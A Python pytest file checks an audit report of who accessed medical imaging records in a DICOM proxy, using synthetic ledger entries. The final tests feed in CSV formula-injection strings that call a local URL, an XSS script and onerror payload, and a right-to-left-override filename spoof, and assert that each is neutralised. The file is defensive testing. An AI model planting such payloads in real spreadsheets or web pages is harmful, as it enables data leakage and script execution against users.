"""Who saw what: records of every kind put together, and written where they can do no harm."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest

from proxy.anchor.accesses import Access, Question, accesses
from proxy.anchor.report_forms import COLUMNS, as_csv, as_html, standing
from proxy.model import JsonObject
from tests.anchor.spools import identity
from tests.anchor.test_laws import ORIGIN, Rows

P1, P2 = "P1", "P2"
S1, S2, S3 = "1.2.1", "1.2.2", "1.2.3"


def asked(
    number: int,
    action: str,
    *,
    study: str | None = None,
    patient: str | None = None,
    match: JsonObject | None = None,
    rows: list[list[str]] | None = None,
    name: str = "urn:dicomward:device:radiologist",
    allow: bool = True,
    time: str = "2025-03-01T10:00:00.000Z",
) -> JsonObject:
    body: JsonObject = {
        "v": 1,
        "kind": "decision",
        "id": identity(number),
        "time": time,
        "http": {"method": "GET", "target_sha256": "0" * 64, "address": "10.0.0.9", "connection": "c"},
        "asked": True,
        "input": {
            "request": {
                "action": action,
                "level": "study",
                "study": study,
                "series": None,
                "instance": None,
                "purpose": {"code": "TREAT", "source": "header"},
                "query": {"match": match or {}},
            },
            "resource": {"patient_id": patient},
            "subject": {"certificate": {"name": name}, "user": {"id": "idp/anna"}},
            "device": {"id": "ab" * 32},
        },
        "verdict": {
            "allow": allow,
            "reasons": [] if allow else ["posture-stale"],
            "obligations": [],
            "policy": "cd" * 32,
        },
    }
    if rows is not None:
        body["rows"] = [list(row) for row in rows]
    return body


def part(number: int, study: str, instance: str, patient: str) -> JsonObject:
    return {
        "v": 1,
        "kind": "part",
        "id": identity(number),
        "time": "2025-03-01T10:00:00.500Z",
        "part": 1,
        "uids": {"study": study, "series": study + ".1", "instance": instance, "sop_class": "1"},
        "input": {"request": {"study": study}, "resource": {"patient_id": patient}},
        "verdict": {"allow": True, "reasons": [], "obligations": [], "policy": "cd" * 32},
    }


def left(number: int, count: int = 1000) -> JsonObject:
    return {
        "v": 1,
        "kind": "outcome",
        "id": identity(number),
        "time": "2025-03-01T10:00:01.000Z",
        "status": "complete",
        "http_status": 200,
        "bytes": count,
        "sha256": "0" * 64,
    }


LEDGER: list[JsonObject] = [
    asked(1, "retrieve", study=S1, patient=P1),
    left(1, 5000),
    asked(2, "retrieve", study=S2, patient=P2),
    left(2),
    asked(3, "search", rows=[[S2, "s"], [S1, "s"]], time="2025-03-02T10:00:00.000Z"),
    left(3),
    asked(4, "search", rows=[[S2]]),
    left(4),
    asked(5, "store"),
    part(5, S3, "1.2.3.9", P1),
    left(5),
    asked(6, "store"),
    part(6, S2, "1.2.2.9", P2),
    left(6),
    asked(7, "search", match={"PatientID": P1}, rows=[]),
    left(7),
    asked(8, "retrieve", study=S1, patient=P1, allow=False, name="urn:dicomward:device:stale"),
    {"v": 1, "kind": "event", "event": "start", "time": "2025-03-01T10:00:00.000Z"},
    {"v": 1, "kind": "suppressed", "count": 3, "reason": "rate", "time": "2025-03-01T10:00:00.000Z"},
]


def told(question: Question, records: list[JsonObject] | None = None) -> list[Access]:
    return accesses(question, {ORIGIN: Rows(records or LEDGER)}, lambda records: None).accesses


def numbers(found: list[Access]) -> list[int]:
    return sorted(int(each.decision, 16) for each in found)


def test_patient_is_found_in_requests_in_rows_shown_and_in_parts_stored() -> None:
    found = {int(each.decision, 16): each for each in told(Question(patient=P1))}
    assert sorted(found) == [1, 3, 5, 7, 8]
    assert {number: each.about for number, each in found.items()} == {
        1: "request",
        3: "rows",
        5: "part",
        7: "request",
        8: "request",
    }
    assert found[5].parts == ["1.2.3.9 stored"]
    assert found[3].rows == 2


def test_patient_of_no_record_is_in_no_access() -> None:
    assert told(Question(patient="P")) == []
    assert told(Question(patient='P1"')) == []


def test_study_is_found_wherever_it_was_seen() -> None:
    assert numbers(told(Question(study=S2))) == [2, 3, 4, 6]


def test_subject_is_a_certificate_or_a_user() -> None:
    assert numbers(told(Question(subject="urn:dicomward:device:stale"))) == [8]
    assert numbers(told(Question(subject="idp/anna"))) == list(range(1, 9))


def test_period_holds_its_first_moment_and_not_its_last() -> None:
    assert numbers(told(Question(since="2025-03-02T10:00:00.000Z"))) == [3]
    assert 3 not in numbers(told(Question(until="2025-03-02T10:00:00.000Z")))


def test_questions_are_joined() -> None:
    assert numbers(told(Question(patient=P1, subject="urn:dicomward:device:stale"))) == [8]


def test_access_says_who_when_why_from_what_and_what_left() -> None:
    (access,) = told(Question(patient=P1, until="2025-03-01T10:00:00.001Z", subject="urn:dicomward:device:stale"))
    assert access.to_wire() | {"origin": "", "intact": True} == {
        "time": "2025-03-01T10:00:00.000Z",
        "decision": identity(8),
        "subject": "urn:dicomward:device:stale",
        "user": "idp/anna",
        "device": "ab" * 32,
        "address": "10.0.0.9",
        "purpose": "TREAT",
        "action": "retrieve",
        "target": S1,
        "about": "request",
        "allowed": False,
        "reasons": ["posture-stale"],
        "policy": "cd" * 32,
        "rows": None,
        "parts": [],
        "outcome": "",
        "http_status": None,
        "bytes": None,
        "origin": "",
        "index": 16,
        "intact": True,
        "block": None,
        "final": False,
    }
    (first,) = [each for each in told(Question(study=S1)) if each.bytes == 5000]
    assert (first.outcome, first.http_status) == ("complete", 200)


def test_records_that_cannot_be_read_are_counted() -> None:
    broken: list[JsonObject] = [{"kind": "decision", "id": "x"}, {"v": 1}, *LEDGER]
    answer = accesses(Question(patient=P1), {ORIGIN: Rows(broken)}, lambda records: None)
    assert answer.unreadable == 2
    assert numbers(answer.accesses) == [1, 3, 5, 7, 8]


def test_record_that_was_changed_says_so() -> None:
    (access,) = told(Question(patient=P2, study=S2, subject="idp/anna"), [asked(1, "retrieve", study=S2, patient=P2)])
    assert not access.intact  # the reader's leaf is none of it
    assert standing(access) == "CHANGED"


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", " =", "%", "|", "\uff1d"])
def test_csv_holds_no_formula(begin: str) -> None:
    formula = f'{begin}HYPERLINK("http://127.0.0.1/?" & A1)'
    (access,) = told(Question(subject=formula), [asked(1, "retrieve", study=S1, patient=P1, name=formula)])
    header, row = csv.reader(io.StringIO(as_csv([access]), newline=""))
    assert tuple(header) == COLUMNS
    cell = row[COLUMNS.index("subject")]
    assert cell == "'" + formula


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def test_html_runs_nothing_and_loads_nothing() -> None:
    attack = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&"
    (access,) = told(Question(subject=attack), [asked(1, "retrieve", study=attack, patient=P1, name=attack)])
    seen = Seen()
    seen.feed(as_html([access], attack, [attack]))
    assert seen.tags <= {
        *("html", "head", "meta", "title", "style", "body", "h1", "p"),
        *("table", "thead", "tbody", "tr", "th", "td"),
    }
    assert not {"src", "href", "onerror"} & seen.attributes
    assert attack in seen.text


def test_html_does_not_turn_the_direction_of_what_is_read() -> None:
    name = "urn:\u202egnp.exe\x1b[2J"
    (access,) = told(Question(subject=name), [asked(1, "retrieve", study=S1, patient=P1, name=name)])
    page = as_html([access], "Accesses", [])
    assert "urn:\ufffdgnp.exe\ufffd[2J" in page
    assert "\u202e" not in page
